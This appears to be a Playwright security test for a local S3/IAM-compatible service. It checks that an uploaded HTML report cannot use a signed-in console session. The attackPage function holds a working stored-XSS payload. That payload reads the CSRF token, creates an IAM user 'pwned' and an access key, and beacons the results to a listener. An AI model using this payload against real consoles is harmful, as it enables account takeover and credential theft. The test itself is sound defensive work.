/**
 * Issue 17 item 1, the attack itself in Chromium: a low-privilege user (only s3:PutObject and
 * s3:GetObject on one bucket) stores report.html whose script reads the console's session (CSRF
 * token) and calls the console API to create an IAM user and an access key, beaconing what it
 * got to a listener. A browser signed in to the console as root opens the presigned link,
 * directly and by a click on a page of another origin. The page renders; the script gets nothing
 * (the API origin answers with CSP sandbox, has no console, and the console API refuses it);
 * nothing is created or recorded.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { CreateBucketCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { CreateAccessKeyCommand, CreateUserCommand, IAMClient, ListAccessKeysCommand, ListUsersCommand, PutUserPolicyCommand } from '@aws-sdk/client-iam';
import { clientOptions, type Credentials, startTestServer, type TestServer } from '../../helpers/server.ts';
import { presignedGetUrl, s3Client } from '../../helpers/s3.ts';
import { launchBrowser, LONG, openConsole, signInWithKey, skipWithoutChromium, type ConsolePage } from './harness.ts';

/** An HTTP server of the test's own on 127.0.0.1 (another origin than both of HealthTrail's). */
async function listen(handler: Parameters<typeof createServer>[1]): Promise<{ server: Server; url: string }> {
  const server = createServer(handler);
  server.listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

/** The stored page: steals the session through a relative and an absolute console URL. */
function attackPage(consoleUrl: string, beaconUrl: string): string {
  return `<!doctype html><html><head><title>Quarterly report</title></head><body>
<h1>Quarterly report</h1><p>Revenue is up.</p>
<script>
const sink = ${JSON.stringify(beaconUrl)};
const send = (what, data) => fetch(sink + '/' + what, { method: 'POST', mode: 'no-cors', body: String(data) }).catch(() => {});
send('ran', location.href);
async function attack(base) {
  try {
    const session = await fetch(base + '/console/api/session', { credentials: 'include' });
    const text = await session.text();
    send('session', base + ' ' + session.status + ' ' + text);
    let token = '';
    try { token = JSON.parse(text).csrfToken || ''; } catch {}
    for (const [operation, input] of [['CreateUser', { UserName: 'pwned' }], ['CreateAccessKey', {}]]) {
      const call = await fetch(base + '/console/api/call', {
        method: 'POST', credentials: 'include',
        headers: { 'content-type': 'application/json', 'x-csrf-token': token },
        body: JSON.stringify({ service: 'iam', operation, input }),
      });
      send('call', base + ' ' + operation + ' ' + call.status + ' ' + await call.text());
    }
  } catch (e) {
    send('error', base + ' ' + e);
  }
}
attack('');
attack(${JSON.stringify(consoleUrl)});
</script></body></html>`;
}

describe('console: stored content cannot act with the console session', { skip: skipWithoutChromium }, () => {
  let server: TestServer;
  let browser: Browser;
  let ui: ConsolePage;
  let beacon: { server: Server; url: string };
  let linkSite: { server: Server; url: string };
  const received: string[] = [];
  let presigned = '';
  let iam: IAMClient;

  before(async () => {
    server = await startTestServer();
    iam = new IAMClient(clientOptions(server));
    await s3Client(server).send(new CreateBucketCommand({ Bucket: 'reports' }));
    await iam.send(new CreateUserCommand({ UserName: 'uploader' }));
    await iam.send(new PutUserPolicyCommand({
      UserName: 'uploader', PolicyName: 'reports-only',
      PolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['s3:PutObject', 's3:GetObject'], Resource: 'arn:aws:s3:::reports/*' }] }),
    }));
    const key = (await iam.send(new CreateAccessKeyCommand({ UserName: 'uploader' }))).AccessKey!;
    const uploader: Credentials = { accessKeyId: key.AccessKeyId!, secretAccessKey: key.SecretAccessKey! };

    beacon = await listen((req, res) => {
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (d: string) => (body += d));
      req.on('end', () => {
        received.push(`${req.method} ${req.url} ${body}`);
        res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
      });
    });
    await s3Client(server, uploader).send(new PutObjectCommand({
      Bucket: 'reports', Key: 'report.html', ContentType: 'text/html', Body: attackPage(server.consoleUrl, beacon.url),
    }));
    presigned = await presignedGetUrl(server, 'reports', 'report.html', uploader);
    linkSite = await listen((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><a id="report" href="${presigned.replace(/&/g, '&amp;')}">Open the report</a>`);
    });

    browser = await launchBrowser();
    ui = await openConsole(browser, server.consoleUrl);
    await signInWithKey(ui.page);
  });

  after(async () => {
    await ui?.context.close();
    await browser?.close();
    beacon?.server.close();
    linkSite?.server.close();
    await server?.stop();
  });

  /** Loads the report in a tab of the signed-in context and lets any script of it finish. */
  async function checkReport(open: (page: import('playwright-core').Page) => Promise<void>): Promise<void> {
    const page = await ui.context.newPage();
    try {
      await open(page);
      await page.getByRole('heading', { name: 'Quarterly report' }).waitFor();
      assert.match(await page.locator('body').innerText(), /Revenue is up\./);
      assert.equal(new URL(page.url()).origin, server.url, 'the report is on the API origin');
      // Anything the script would send has gone out once the network is quiet.
      await page.waitForLoadState('networkidle');
    } finally {
      await page.close();
    }
    assert.deepEqual(received, [], 'the stored page sent nothing to the listener (its script never ran)');
  }

  it('a presigned link opened directly runs no script and creates nothing', { timeout: LONG }, async () => {
    await checkReport(async (page) => {
      const response = await page.goto(presigned);
      assert.equal(response!.status(), 200);
      assert.equal(response!.headers()['content-security-policy'], 'sandbox');
    });
  });

  it('the same link clicked on a page of another site runs no script and creates nothing', { timeout: LONG }, async () => {
    await checkReport(async (page) => {
      await page.goto(linkSite.url);
      await Promise.all([page.waitForURL((url) => url.origin === server.url), page.locator('#report').click()]);
    });
  });

  it('the console session was never used: no user, no key, no CreateUser event', async () => {
    const users = (await iam.send(new ListUsersCommand({}))).Users!.map((u) => u.UserName);
    assert.deepEqual(users, ['uploader']);
    assert.equal((await iam.send(new ListAccessKeysCommand({}))).AccessKeyMetadata!.length, 1, 'root keeps its one key');
    assert.equal((await iam.send(new ListAccessKeysCommand({ UserName: 'uploader' }))).AccessKeyMetadata!.length, 1);
    const created = server.db.sql.prepare(`SELECT record FROM events WHERE event_name IN ('CreateUser', 'CreateAccessKey') ORDER BY seq`)
      .all() as Array<{ record: string }>;
    const made = created.map((r) => JSON.parse(r.record)).map((r) => `${r.eventName} ${r.requestParameters?.userName} ${r.userIdentity.sessionContext ? 'console' : 'sdk'}`);
    assert.deepEqual(made, ['CreateUser uploader sdk', 'CreateAccessKey uploader sdk']);
  });
});
